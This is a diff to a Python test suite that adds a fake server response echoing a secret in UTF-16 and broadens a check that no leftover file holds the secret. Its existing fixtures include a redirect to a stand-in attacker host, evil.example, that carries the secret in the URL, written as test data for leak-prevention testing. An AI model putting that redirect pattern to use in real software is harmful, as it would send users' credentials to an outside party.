@@ -156,6 +156,13 @@ def in_html(exchange):
     return "500 Oops", {"Content-Type": "text/html"}, page
 
 
+def in_wide_letters(exchange):
+    if exchange.method == "GET":
+        return None
+    page = f"<pre>{exchange.secret}".encode("utf-16")
+    return "400 No", {"Content-Type": "text/html; charset=utf-16"}, page
+
+
 def in_redirects(exchange):
     place = f"https://evil.example/?t={quote(exchange.secret, safe='')}"
     return "302 Found", {"Location": place}, b""
@@ -176,8 +183,8 @@ def in_401(exchange):
 
 
 MISCHIEF = (
-    in_names, in_keys, in_ids, escaped, in_refusals, in_html, in_redirects, in_half_an_answer,
-    in_wrong_types, in_401,
+    in_names, in_keys, in_ids, escaped, in_refusals, in_html, in_wide_letters, in_redirects,
+    in_half_an_answer, in_wrong_types, in_401,
 )  # fmt: skip
 
 
@@ -214,7 +221,7 @@ def test_nothing_that_a_run_leaves_behind_holds_the_secret(
     }
     assert {"state/ledger.db", "desired-state/all.yaml"} <= left.keys()
     secrets = {secret, f"admin:{secret}", f"client-7:{secret}", ISSUED}
-    hidden = {form for one in secrets for form in forms(one)}
+    hidden = {form for one in secrets for form in (*forms(one), " ".join(one).encode())}
     assert [place for place, content in left.items() if any(one in content for one in hidden)] == []
 
 
